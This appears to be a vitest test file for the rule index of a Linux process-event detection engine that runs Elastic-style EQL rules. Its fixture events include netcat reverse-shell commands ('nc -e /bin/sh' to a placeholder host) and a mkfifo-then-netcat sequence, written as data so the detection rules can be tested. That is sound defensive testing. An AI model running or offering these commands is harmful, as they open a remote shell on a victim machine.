import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadRules, RuleSet, type LoadedRule } from '../../src/rules/index.js';
import { MEMO_FIELDS, RuleIndex } from '../../src/rules/rule-index.js';
import { fieldSlot } from '../../src/eql/field-access.js';
import { indexStages } from '../../src/rules/rule-set.js';
import { execEvent } from './support/exec-event.js';
import { execMix } from './support/exec-mix.js';
import { literalEventMix } from './support/literal-event-mix.js';
import { describeWithCorpus, CORPUS_DIR } from '../support/corpus.js';

const CORPUS = CORPUS_DIR;

describeWithCorpus('rule index', () => {
  const load = loadRules([join(CORPUS, 'elastic-linux-process'), join(CORPUS, 'elastic-linux-sequence'), join(process.cwd(), 'rules')]);
  const events = [
    ...execMix(3000, 7),
    // Shapes the mix does not produce: other categories, no category, several types, odd case,
    // dotted keys, an array action.
    { ...execEvent({ name: 'curl', args: ['curl', 'x'] }), event: { category: ['network'], type: ['start'], action: 'connection_attempted' } },
    { ...execEvent({ name: 'id', args: ['id'] }), event: undefined },
    { ...execEvent({ name: 'id', args: ['id'] }), event: { category: ['process'], type: ['start', 'change'], action: 'EXEC' } },
    { ...execEvent({ name: 'nc', args: ['nc', '-e', '/bin/sh', 'h', '1'] }), event: undefined, 'event.category': 'process', 'event.type': 'start', 'event.action': 'exec' },
    { ...execEvent({ name: 'nc', args: ['nc', '-e', '/bin/sh', 'h', '1'] }), event: { category: 'process', type: 'start', action: ['fork', 'exec'] } },
    // A sequence (the bundled mkfifo-then-netcat rule).
    execEvent({ name: 'mkfifo', args: ['mkfifo', '/tmp/f'], parent: { name: 'sh', args: ['sh'], entityId: 'p-1' }, sequence: 90_001, timestampMs: Date.UTC(2026, 0, 12, 11) }),
    execEvent({ name: 'nc', args: ['nc', 'h', '1'], parent: { name: 'sh', args: ['sh'], entityId: 'p-1' }, sequence: 90_002, timestampMs: Date.UTC(2026, 0, 12, 11) + 5 }),
  ];

  /** The fixed shapes above, then events made of the rules' own literals (near misses and hits). */
  const allEvents = async () => {
    const { rules } = await load;
    return [...events, ...literalEventMix(rules.map((r) => r.compiled.source), 6000, 11)];
  };

  it('offers every event each rule that matches it (no rule is missed)', async () => {
    const { rules } = await load;
    const set = new RuleSet(rules);
    const eventRules = rules.filter((r) => r.compiled.kind === 'event');
    let matched = 0;
    for (const event of await allEvents()) {
      const candidates = new Set(set.candidates(event));
      const matching = eventRules.filter((r) => r.compiled.kind === 'event' && r.compiled.matches(event));
      matched += matching.length;
      const missed = matching.filter((r) => !candidates.has(r)).map((r) => r.name);
      expect(missed).toEqual([]);
    }
    expect(matched).toBeGreaterThan(100);
  });

  it('offers only rules whose category and pinned action fit', async () => {
    const { rules } = await load;
    const set = new RuleSet(rules);
    const exec = execEvent({ name: 'ls', args: ['ls'] });
    const end = execEvent({ name: 'ls', args: ['ls'], action: 'end' });
    const network = { ...exec, event: { category: ['network'], type: ['start'], action: 'exec' } };
    const forExec = set.candidates(exec);
    const forEnd = set.candidates(end);
    expect(forExec.length).toBeGreaterThan(0);
    expect(forExec.length).toBeLessThan(rules.length / 4);
    expect(forEnd.length).toBeLessThan(rules.length / 10);
    // Every rule pinned to exec is offered an exec and refused an end.
    // Rules whose text, before any parenthesis or `or`, requires event.action == "exec".
    const pinnedToExec = (r: LoadedRule) => {
      const prefix = r.compiled.source.split('(')[0]!;
      return r.compiled.kind === 'event' && /\bevent\.action == "exec"/.test(prefix) && !/\bor\b/.test(prefix);
    };
    expect(rules.filter(pinnedToExec).length).toBeGreaterThan(20);
    expect(forEnd.filter(pinnedToExec)).toEqual([]);
    // An exec of `ls` meets no rule that pins process.name to something else.
    expect(forExec.filter((r) => /^process where[^()]*\bprocess\.name == "(?!ls")/.test(r.compiled.source.trim()))).toEqual([]);
    expect(set.candidates(network)).toEqual([]);
  });

  it('gives the same matches, sequences included, as running every rule on every event', async () => {
    const { rules } = await load;
    const indexed = new RuleSet(rules);
    // The reference bypasses the index: every event goes to every rule, sequences to a matcher each.
    const matchers = new Map(rules.flatMap((rule) => (rule.compiled.kind === 'sequence' ? [[rule, rule.compiled.createMatcher({ timestampField: '@timestamp' })] as const] : [])));
    const key = (m: { rule: LoadedRule; events: Record<string, unknown>[] }) =>
      `${m.rule.ruleId}:${m.events.map((e) => (e.event as { sequence?: number } | undefined)?.sequence).join(',')}`;
    const viaIndex: string[] = [];
    const viaAll: string[] = [];
    for (const event of await allEvents()) {
      viaIndex.push(...indexed.evaluate(event).map(key));
      for (const rule of rules) {
        const matcher = matchers.get(rule);
        if (matcher !== undefined) viaAll.push(...matcher.push(event).map((m) => key({ rule, events: m.events })));
        else if (rule.compiled.kind === 'event' && rule.compiled.matches(event)) viaAll.push(key({ rule, events: [event] }));
      }
    }
    expect(viaIndex.sort()).toEqual(viaAll.sort());
    expect(viaIndex.some((k) => k.endsWith(':90001,90002'))).toBe(true);
    expect(viaIndex.length).toBeGreaterThan(100);
  });

  it('offers the same candidates when its memo is cleared all the time', async () => {
    const { rules } = await load;
    const entries = rules.map((rule) => ({ item: rule, stages: indexStages(rule) }));
    const roomy = new RuleIndex(entries);
    const cramped = new RuleIndex(entries, 3);
    let offered = 0;
    for (const event of await allEvents()) {
      const expected = roomy.candidates(event);
      offered += expected.length;
      expect(cramped.candidates(event)).toEqual(expected);
    }
    expect(offered).toBeGreaterThan(1000);
  });

  it('says that no rule could take an event (mayOffer) only when none is offered it, sequences open or not', async () => {
    const { rules } = await load;
    const set = new RuleSet(rules);
    let refused = 0;
    const events = await allEvents();
    for (const event of events) {
      if (!set.mayOffer(memoProbe(event))) {
        refused++;
        expect(set.candidates(event)).toEqual([]);
      }
      set.evaluate(event);
    }
    // Some of Elastic's rules pin no memo field of an exec (only its arguments), so with them
    // nearly every exec needs its document; the events of other categories and actions do not.
    expect(refused).toBeGreaterThan(0);
  });

  it('skips most rules for most events', async () => {
    const { rules } = await load;
    const set = new RuleSet(rules);
    const mix = execMix(2000, 3);
    let offered = 0;
    for (const event of mix) offered += set.candidates(event).length;
    // Every rule would be 273 per event; the index's requirements leave a few.
    expect(offered / mix.length).toBeLessThan(15);
  });
});

/** An object holding only the memo fields of `event`, read the way the index reads them. */
function memoProbe(event: Record<string, unknown>): Record<string, unknown> {
  const probe: Record<string, unknown> = {};
  for (const field of MEMO_FIELDS) {
    const value = fieldSlot(field.split('.')).read(event);
    if (value === undefined) continue;
    const path = field.split('.');
    let node = probe;
    for (const key of path.slice(0, -1)) node = (node[key] ??= {}) as Record<string, unknown>;
    node[path[path.length - 1]!] = value;
  }
  return probe;
}

describe('mayOffer over the bundled rules', () => {
  it('refuses an exec of a compiler and takes one of a shell, a wrapper or nc', async () => {
    const { rules } = await loadRules([join(process.cwd(), 'rules')]);
    const set = new RuleSet(rules);
    const refusedEvents = execMix(2000, 4).filter((event) => !set.mayOffer(memoProbe(event)));
    for (const event of refusedEvents) expect(set.candidates(event)).toEqual([]);
    expect(refusedEvents.length).toBeGreaterThan(1000);
    expect(set.mayOffer(memoProbe(execEvent({ name: 'cc1', args: ['cc1', 'x.c'], parent: { name: 'gcc', args: ['gcc', 'x.c'] } })))).toBe(false);
    for (const name of ['setsid', 'nohup', 'nc', 'bash']) {
      expect(set.mayOffer(memoProbe(execEvent({ name, args: [name], parent: { name: 'bash', args: ['bash'] } })))).toBe(true);
    }
  });
});
